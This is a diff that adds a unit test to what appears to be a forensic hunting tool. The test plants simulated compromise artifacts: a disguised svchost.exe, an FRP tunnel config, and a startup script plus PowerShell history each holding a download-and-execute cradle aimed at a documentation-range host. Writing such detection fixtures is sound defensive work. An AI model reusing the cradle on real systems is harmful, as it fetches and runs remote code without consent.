@@ -62,6 +62,20 @@ static void test_settings(void **state)
         CHECK(!str_has(b->found.fact[i].why, STR("secret17")) && !str_has(b->found.fact[i].cite.excerpt, STR("secret17")));
 }
 
+static void test_faults(void **state)
+{
+    struct bench *b = *state;
+
+    go(b, "ProgramData/svchost.exe", FRP, 4096, 16384);
+    bench_text(b, "Users/Public/frpc.ini", "[common]\nserver_addr = 198.51.100.9\n");
+    bench_text(b, "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/a.cmd", "powers@hell -nop -c I@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.1/')\n");
+    bench_text(b, "Users/a/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt", "dir\nI@EX (New-Object Net.Web@Client).Download@String('http://198.51.100.1/')\n");
+    bench_text(b, "ProgramData/Microsoft/Windows Defender/Support/MPLog-1.log", "2021-03-09T01:10:00.000Z DETECTION_ADD#1 Test:Win32/A file:C:\\inetpub\\wwwroot\\x.aspx\n");
+    bench_hunt(b);
+    CHECK(b->found.fact_n >= 5);
+    bench_faults(b);
+}
+
 static void test_honest(void **state)
 {
     struct bench *b = *state;
@@ -79,6 +93,6 @@ static void test_honest(void **state)
 
 int main(void)
 {
-    const struct CMUnitTest tests[] = { BENCH_TEST(test_programs), BENCH_TEST(test_settings), BENCH_TEST(test_honest) };
+    const struct CMUnitTest tests[] = { BENCH_TEST(test_programs), BENCH_TEST(test_settings), BENCH_TEST(test_honest), BENCH_TEST(test_faults) };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
